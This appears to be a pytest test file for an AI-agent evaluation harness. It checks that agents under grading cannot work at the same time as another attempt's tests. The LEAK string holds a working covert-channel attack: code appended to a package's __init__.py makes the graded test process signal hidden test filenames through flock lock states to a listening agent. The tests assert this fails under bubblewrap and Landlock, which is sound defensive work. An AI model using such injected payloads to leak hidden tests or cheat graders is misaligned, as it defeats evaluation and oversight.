"""atk14 A6 closed by construction: at ``-n 2`` no untrusted agent works while another attempt is graded
(contracts §9). Measured on main: the agents' work and the gradings' test processes overlapped, which
is what let a graded test process send the hidden tests to a working agent through ``flock``."""

from __future__ import annotations

import json
import multiprocessing
import sys
import time
from pathlib import Path
from typing import Any

import pytest
from helpers.attack_repo import build, script_agent, task_for
from helpers.bwrap import bwrap_works
from helpers.e2e_repo import copy_mined, homefield
from helpers.landlock import landlock_abi

from pytest_homefield.agents.reference import OracleAgent
from pytest_homefield.run.attempt import AttemptSpec, SnapshotCache, run_attempt
from pytest_homefield.sandbox import phases
from pytest_homefield.sandbox.modes import SandboxChoice

#: A ``cmd:`` agent (run as ``python AGENT LOG SECONDS``) that works ``SECONDS`` s and appends
#: ``agent START END`` to ``LOG`` for it, and leaves in the package code that appends
#: ``grading START END`` for every test process that imports it (from its import to its exit): both
#: outside the workspace, allowed without a sandbox.
AGENT = r'''
import pathlib, sys, time
log = sys.argv[1]
start = time.time()
code = f"""
import atexit as _a, time as _t
_s = _t.time()
_t.sleep(0.2)
def _hf_log():
    with open({log!r}, "a") as f:
        f.write(f"grading {{_s}} {{_t.time()}}\\n")
_a.register(_hf_log)
"""
with open("calc/__init__.py", "a") as fh:
    fh.write(code)
time.sleep(float(sys.argv[2]))
with open(log, "a") as fh:
    fh.write(f"agent {start} {time.time()}\n")
'''


@pytest.mark.slow
def test_no_agent_works_while_another_attempt_is_graded(mined: Path, tmp_path: Path) -> None:
    repo = copy_mined(mined, tmp_path / "repo")
    log = tmp_path / "phases.log"
    script = tmp_path / "agent.py"
    script.write_text(AGENT)
    agent = f"cmd:{sys.executable} {script} {log}"  # unequal works, so that the workers fall out of step
    proc = homefield(repo, "run", "--agent", f"a={agent} 0.3", "--agent", f"b={agent} 1", "--attempts", "1",
                     "--sandbox", "none", "-n", "2", "--run-id", "p", "--timeout", "120")
    assert proc.returncode in (0, 1), proc.stdout + proc.stderr
    rows = [(kind, float(a), float(b)) for kind, a, b in (ln.split() for ln in log.read_text().splitlines())]
    agents = [r for r in rows if r[0] == "agent"]
    gradings = [r for r in rows if r[0] == "grading"]
    records = [json.loads(ln) for ln in (repo / ".homefield/runs/p/results.jsonl").read_text().splitlines()]
    assert len(agents) == len(records) == 6 and len(gradings) >= 6, (rows, proc.stdout)
    overlaps = [(a, g) for a in agents for g in gradings if a[1] < g[2] and g[1] < a[2]]
    assert not overlaps, f"{len(overlaps)} agent phases overlapped a grading's test process"
    assert all(r["wait_s"] >= 0 for r in records)
    assert sum(r["wait_s"] for r in records) > 0, "at -n 2 some attempt waited for the other's phase"


#: atk14's attacks/flock_leak.sh, small and short: the agents elect a receiver over a lock on a stdlib
#: file (both sandboxes bind the base interpreter read-only); the other appends a sender to the package
#: and exits at once, so that its grading starts; the graded test process, seeing a receiver, sends the
#: names of the test files that differ from the parent's (the hidden tests) through 8 data locks and a
#: clock lock, 10 ms a byte. The receiver listens 5 s and says what it got (with the phase lock switched
#: off, both variants received the hidden test file's name within it).
LEAK = r'''
import fcntl, hashlib, os, pathlib, sys, sysconfig, time
STD = sysconfig.get_paths()["stdlib"]
NAMES = sorted(n for n in os.listdir(STD) if n.endswith(".py"))[FIRST:FIRST + 11]
parent = {str(p): hashlib.sha256(p.read_bytes()).hexdigest() for p in pathlib.Path(".").rglob("*.py")}
payload = """

def _hf_tx():
    import fcntl as _f, hashlib as _h, os as _o, pathlib as _p, time as _t
    fds = [_o.open(_o.path.join(STD, n), _o.O_RDONLY) for n in NAMES]
    data, clock, role, sender = fds[:8], fds[8], fds[9], fds[10]
    try:
        _f.flock(role, _f.LOCK_SH | _f.LOCK_NB)
        return  # nobody listening
    except OSError:
        pass
    _f.flock(sender, _f.LOCK_EX)
    hidden = sorted(str(p) for p in _p.Path(".").rglob("test*.py")
                    if PARENT.get(str(p)) != _h.sha256(p.read_bytes()).hexdigest())
    blob = "\\n".join(hidden).encode()
    tick = False
    for byte in len(blob).to_bytes(4, "big") + blob:
        for i in range(8):
            _f.flock(data[i], _f.LOCK_EX if byte >> i & 1 else _f.LOCK_UN)
        tick = not tick
        _f.flock(clock, _f.LOCK_EX if tick else _f.LOCK_UN)
        _t.sleep(0.01)
    for fd in fds:
        _o.close(fd)


_hf_tx()
""".replace("STD", repr(STD)).replace("NAMES", repr(NAMES)).replace("PARENT", repr(parent))
with open("calc/__init__.py", "a") as fh:
    fh.write(payload)
fds = [os.open(os.path.join(STD, n), os.O_RDONLY) for n in NAMES]
data, clock, role = fds[:8], fds[8], fds[9]
try:
    fcntl.flock(role, fcntl.LOCK_EX | fcntl.LOCK_NB)
except OSError:
    print("sender: exiting so that my grading starts")
    sys.exit(0)
print("receiver: listening", flush=True)


def held(fd):
    try:
        fcntl.flock(fd, fcntl.LOCK_SH | fcntl.LOCK_NB)
    except OSError:
        return 1
    fcntl.flock(fd, fcntl.LOCK_UN)
    return 0


out, last, need, deadline = bytearray(), 0, None, time.time() + 5
while time.time() < deadline and (need is None or len(out) < need):
    if held(clock) != last:
        last = 1 - last
        time.sleep(0.002)
        out.append(sum(held(data[i]) << i for i in range(8)))
        if len(out) == 4:
            need = int.from_bytes(out, "big") + 4
    else:
        time.sleep(0.0005)
print(f"received {max(len(out) - 4, 0)} bytes: {bytes(out[4:]).decode(errors='replace')!r}")
'''


@pytest.mark.slow
@pytest.mark.parametrize("sandbox", ["bwrap", "landlock"])
def test_a_graded_test_process_cannot_reach_a_working_agent_through_flock(mined: Path, tmp_path: Path,
                                                                          sandbox: str) -> None:
    """atk14 A6 under bubblewrap and Landlock. Measured on main (this test's agent): the receiver got
    ``'tests/test_neg.py'``, the hidden test file's name, from the other attempt's grading. The two variants,
    which xdist may run at once with a phase lock each, elect and signal over lock files of their own: on
    shared files one variant's grading reached the other's receiver (CI), and four agents elected one
    receiver between them (a variant with two senders)."""
    if sandbox == "bwrap" and not bwrap_works():
        pytest.skip("bubblewrap does not work here")
    if sandbox == "landlock" and landlock_abi() < 6:
        pytest.skip("Landlock admits agents that run commands from ABI 6")
    repo = copy_mined(mined, tmp_path / "repo")
    leak = LEAK.replace("FIRST", "60" if sandbox == "bwrap" else "71")  # each variant's lock files its own
    agent = f"cmd:{sys.executable} - <<'PY'\n{leak}\nPY"
    proc = homefield(repo, "run", "--agent", f"lk={agent}", "--attempts", "2", "--max-tasks", "1",
                     "--sandbox", sandbox, "-n", "2", "--run-id", "a6", "--timeout", "120")
    assert proc.returncode in (0, 1), proc.stdout + proc.stderr
    outs = [p.read_text() for p in (repo / ".homefield/runs/a6/attempts").glob("*/lk/*/agent.out")]
    said = [ln for out in outs for ln in out.splitlines() if ln.startswith(("receiver", "received", "sender"))]
    assert len(outs) == 2 and "receiver: listening" in said, said
    assert "received 0 bytes: ''" in said, said


def _hold_agents_phase(ready: Any, hold_s: float) -> None:
    """Another attempt's agent at work: hold the agents' phase of this temp dir's lock for ``hold_s`` s."""
    with phases.PhaseLock().hold(phases.AGENT):
        ready.set()
        time.sleep(hold_s)


def _attempt_beside_a_working_agent(tmp_path: Path, agent: Any) -> tuple[Any, float]:
    """One attempt of ``agent`` (no sandbox) while another process holds the agents' phase for 20 s (of
    this test's own lock: tests/conftest.py gives each test its ``HOMEFIELD_PHASE_DIR``): ``(result,
    seconds it took)``."""
    fx = build(tmp_path / "repo")
    task = task_for(fx, canaries=1)
    ready = multiprocessing.get_context("fork").Event()
    holder = multiprocessing.get_context("fork").Process(target=_hold_agents_phase, args=(ready, 20.0), daemon=True)
    holder.start()
    try:
        assert ready.wait(30)
        cache = SnapshotCache(repo=fx.root)
        try:
            spec = AttemptSpec(task=task, agent=agent, attempt=1, run_id="r", run_dir=tmp_path / "run", timeout_s=60,
                               run_timeout_s=120, sandbox=SandboxChoice("none"))
            t0 = time.monotonic()
            r = run_attempt(spec, cache)
            return r, time.monotonic() - t0
        finally:
            cache.close()
    finally:
        holder.kill()
        holder.join()


def test_an_empty_patch_takes_no_turn_of_the_gradings(tmp_path: Path) -> None:
    """atk16 F4: an attempt that changed nothing runs no test, so it has no grading phase to wait for.
    On main it waited until every other attempt's agent on the machine had finished (here 20 s)."""
    idle = script_agent(tmp_path / "agent", {}, name="idle")  # runs a command, changes nothing
    r, took = _attempt_beside_a_working_agent(tmp_path, idle)
    assert r.outcome == "empty_patch" and r.wait_s == 0, r
    assert took < 15, f"the attempt waited {took:.1f} s for another attempt's agent"


def test_the_oracle_takes_no_turn(tmp_path: Path) -> None:
    """The oracle's change is the reference fix: its grading runs no untrusted code. On main the phase
    lock asked ``capabilities.reference`` ("given the task record"), which the oracle is not and the
    attack agents are: a real run's oracle waited up to 168 s behind other agents (simonw/llm)."""
    r, took = _attempt_beside_a_working_agent(tmp_path, OracleAgent(name="oracle", spec="oracle"))
    assert r.outcome == "solved" and r.wait_s == 0, r
    assert took < 15, f"the oracle waited {took:.1f} s for another attempt's agent"
